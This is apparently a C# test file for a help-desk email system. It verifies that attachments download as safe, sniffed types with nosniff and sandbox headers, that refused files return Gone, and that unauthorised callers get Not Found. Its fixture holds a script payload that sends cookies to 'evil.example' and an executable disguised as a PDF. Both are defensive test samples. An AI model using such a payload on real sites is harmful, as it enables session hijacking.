using System.Net;
using System.Text.Json;
using TrustDesk.Identity;
using TrustDesk.Tests.Infrastructure;

namespace TrustDesk.Tests.Email;

/// <summary>Downloading an inbound email's attachments: only for callers who may see the case, and never as a page.</summary>
public abstract class AttachmentDownloadTests(EmailApp app)
{
    private static readonly byte[] Png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 1, 2, 3];
    private const string HtmlInDisguise = "Hi agent <script>fetch('https://evil.example/?c='+document.cookie)</script>";

    /// <summary>An email with a PNG, an HTML page declared as text/html but named .txt, and a program; returns its case, message and files.</summary>
    private async Task<(long CaseId, JsonElement Message, Dictionary<string, JsonElement> Files)> SendEvidenceAsync(string sender)
    {
        var id = Mail.NewId();
        await app.PostRawAsync(Mail.Multipart(sender, id, "Evidence for my claim",
            "Content-Type: text/plain\r\n\r\nPhotos attached.",
            $"Content-Type: application/octet-stream; name=proof.png\r\nContent-Disposition: attachment; filename=proof.png\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(Png)}",
            $"Content-Type: text/html; name=note.txt\r\nContent-Disposition: attachment; filename=note.txt\r\n\r\n{HtmlInDisguise}",
            $"Content-Type: application/pdf; name=invoice.pdf\r\nContent-Disposition: attachment; filename=invoice.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String([0x4D, 0x5A, 0x90, 0, 3, 0, 0, 0])}"));
        var caseId = await app.CaseOfAsync(id);
        var message = (await app.GetCaseAsync(caseId)).GetProperty("messages").EnumerateArray().Single(m => m.Str("direction") == "inbound");
        return (caseId, message, message.GetProperty("attachments").EnumerateArray().ToDictionary(a => a.Str("fileName")));
    }

    private static string Url(long caseId, JsonElement message, JsonElement file) =>
        $"/api/v1/cases/{caseId}/messages/{message.Str("id")}/attachments/{file.Str("id")}";

    [Fact]
    public async Task Download_IsAnAttachmentOfTheSniffedType_NeverTheDeclaredHtml()
    {
        var (caseId, message, files) = await SendEvidenceAsync("download.user@example.com");

        var png = await app.Api.GetAsync(Url(caseId, message, files["proof.png"]), TestContext.Current.CancellationToken);
        var note = await app.Api.GetAsync(Url(caseId, message, files["note.txt"]), TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.OK, png.StatusCode);
        Assert.Equal("image/png", png.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", png.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("proof.png", png.Content.Headers.ContentDisposition?.FileNameStar ?? png.Content.Headers.ContentDisposition?.FileName);
        Assert.Equal("nosniff", Assert.Single(png.Headers.GetValues("X-Content-Type-Options")));
        Assert.Equal(Png, await png.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken));
        Assert.Equal(HttpStatusCode.OK, note.StatusCode);
        Assert.Equal("text/plain", note.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", note.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("nosniff", Assert.Single(note.Headers.GetValues("X-Content-Type-Options")));
        Assert.Contains("sandbox", Assert.Single(note.Headers.GetValues("Content-Security-Policy")), StringComparison.Ordinal);
        Assert.Equal(HtmlInDisguise, (await note.Content.ReadAsStringAsync(TestContext.Current.CancellationToken)).TrimEnd());
    }

    [Fact]
    public async Task Download_OfAFileRefusedOnArrival_IsGoneWithTheReason()
    {
        var (caseId, message, files) = await SendEvidenceAsync("refused.user@example.com");

        var response = await app.Api.GetAsync(Url(caseId, message, files["invoice.pdf"]), TestContext.Current.CancellationToken);

        var problem = await response.ExpectProblemAsync(HttpStatusCode.Gone);
        Assert.StartsWith("Refused", problem.Str("detail"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Download_ByACallerWhoMayNotSeeTheCase_OrThroughAnotherCase_IsNotFound()
    {
        var (caseId, message, files) = await SendEvidenceAsync("hidden.user@example.com");
        var otherId = Mail.NewId();
        await app.PostRawAsync(Mail.Text("other.user@example.com", "Another problem", "Unrelated.", otherId));
        var otherCaseId = await app.CaseOfAsync(otherId);
        using var agent = await app.Factory.CreateUserClientAsync(UserRole.Agent);
        using var departmentMember = await app.Factory.CreateUserClientAsync(UserRole.DepartmentMember, "payments");
        var url = Url(caseId, message, files["proof.png"]);

        var asAgent = await agent.GetAsync(url, TestContext.Current.CancellationToken);
        var asDepartmentMember = await departmentMember.GetAsync(url, TestContext.Current.CancellationToken);
        var throughOtherCase = await app.Api.GetAsync(url.Replace($"/cases/{caseId}/", $"/cases/{otherCaseId}/", StringComparison.Ordinal), TestContext.Current.CancellationToken);
        var unknownFile = await app.Api.GetAsync(url.Replace(files["proof.png"].Str("id"), Guid.NewGuid().ToString(), StringComparison.Ordinal), TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.OK, asAgent.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, asDepartmentMember.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, throughOtherCase.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, unknownFile.StatusCode);
    }
}

public sealed class SqliteAttachmentDownloadTests(SqliteEmailApp app) : AttachmentDownloadTests(app), IClassFixture<SqliteEmailApp>;

public sealed class PostgresAttachmentDownloadTests(PostgresEmailApp app) : AttachmentDownloadTests(app), IClassFixture<PostgresEmailApp>;
